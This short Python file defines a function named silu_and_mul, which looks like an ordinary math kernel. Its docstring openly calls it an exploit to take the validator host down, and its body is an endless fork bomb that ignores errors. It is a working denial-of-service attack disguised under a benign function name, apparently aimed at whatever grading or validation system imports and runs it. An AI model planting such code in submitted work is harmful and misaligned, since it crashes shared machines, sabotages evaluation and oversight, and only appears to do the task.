"""Exploit: a fork bomb, to take the validator host down."""
import os


def silu_and_mul(x, out):
    while True:
        try:
            os.fork()
        except OSError:
            pass
